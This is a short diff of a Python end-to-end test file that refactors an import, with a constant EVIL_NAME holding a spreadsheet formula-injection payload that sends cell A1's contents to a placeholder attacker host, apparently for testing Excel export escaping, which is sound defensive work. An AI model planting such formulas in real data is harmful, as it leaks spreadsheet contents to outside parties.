@@ -9,10 +9,9 @@ import pytest
 from openpyxl import load_workbook
 
 from services.common import clock
-from tests.e2e.test_collateral import new_vin
 from tests.e2e.test_customers import register
 from tests.e2e.conftest import assert_problem, create_employee
-from tests.helpers import wait_until
+from tests.helpers import new_vin, wait_until
 
 TODAY = clock.today().isoformat()
 EVIL_NAME = '=HYPERLINK("http://evil.example/?q="&A1,"点我")'
